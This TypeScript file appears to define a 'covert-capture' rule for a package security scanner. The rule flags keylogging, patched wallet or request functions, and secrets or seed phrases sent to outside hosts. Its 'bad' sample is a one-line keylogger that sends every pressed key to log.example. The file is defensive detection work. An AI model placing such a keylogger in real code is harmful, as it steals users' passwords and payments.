import type { Use } from '../code/found-uses.ts';
import type { Hit, PackageFacts, Rule, TextFile } from '../facts.ts';
import { flowTo } from '../flow.ts';
import { takenFromPage } from '../text/page-theft.ts';

/** What people type, and what goes through their wallets and requests, is listened to or changed. */
export const covertCapture: Rule = {
  id: 'covert-capture',
  kind: 'credentials',
  cwe: 'CWE-506',
  title: 'People are listened to',
  why: 'Whoever sees each key that is pressed, or stands between a page and its wallet, has every password and every payment.',
  fix: 'Remove it. Listen to a form’s own events, and leave the functions of wallets and requests alone.',
  bad: {
    file: 'handlers/page.js',
    source:
      "document.addEventListener('keydown', (event) => fetch('https://log.example/k?k=' + event.key));\nexport default async () => null;\n",
  },
  good: {
    file: 'handlers/page.js',
    source:
      "document.addEventListener('keydown', (event) => { if (event.key === 'Escape') close(); });\nexport default async () => null;\n",
  },
  *inText({ source, kind }: TextFile): Iterable<Hit> {
    if (kind.kind !== 'code' && kind.kind !== 'python' && kind.kind !== 'shell') return;
    const taken = takenFromPage(source.text);
    if (taken !== null) yield { severity: 'critical', place: source.place(taken.offset), message: taken.message };
  },
  *inPackage(facts: PackageFacts): Iterable<Hit> {
    for (const use of facts.uses) {
      const found = use.kind === 'patch' ? patched(use, facts.uses) : isSend(use) ? sent(use) : null;
      if (found !== null) yield { ...found, severity: 'critical', place: use.place };
    }
  },
};

type Found = Pick<Hit, 'message' | 'flow'>;

function isSend({ kind }: Use): boolean {
  return kind === 'net' || kind === 'net.send';
}

function sent(use: Use): Found | null {
  const traces = [...use.sources, ...use.payload];
  const typed = traces.find(({ kind }) => kind === 'typed');
  if (typed !== undefined)
    return { message: 'Each key that is pressed is sent away', flow: flowTo(use, ['typed'], traces) };
  const sensed = traces.find(({ kind }) => kind === 'sensed');
  // Where it goes is written down: nobody was asked.
  if (sensed !== undefined && use.complete && use.values.length > 0) {
    const message = `What is seen of ${sensed.name} is sent to ${use.values[0]}`;
    return { message, flow: flowTo(use, ['sensed'], traces) };
  }
  const secret = traces.find(({ kind }) => kind === 'secret');
  // Where it goes is known: it is not the service that the caller named.
  if (secret === undefined || !use.complete || use.values.length === 0) return null;
  return {
    message: `A private key or seed phrase (${secret.name}) is sent to ${use.values[0]}`,
    flow: flowTo(use, ['secret'], traces),
  };
}

function patched(use: Use, uses: readonly Use[]): Found | null {
  if (!/^fetch$|^XMLHttpRequest/.test(use.api)) return { message: `${use.api} of a wallet is replaced` };
  const relay = uses.find(
    (other) =>
      other.place.file === use.place.file &&
      isSend(other) &&
      other.complete &&
      other.values.length > 0 &&
      other.payload.some(({ kind }) => kind === 'network'),
  );
  if (relay === undefined) return null;
  return {
    message: `${use.api} is replaced, and the answers that it gets are sent to ${relay.values[0]}`,
    flow: flowTo(relay, ['network'], relay.payload),
  };
}
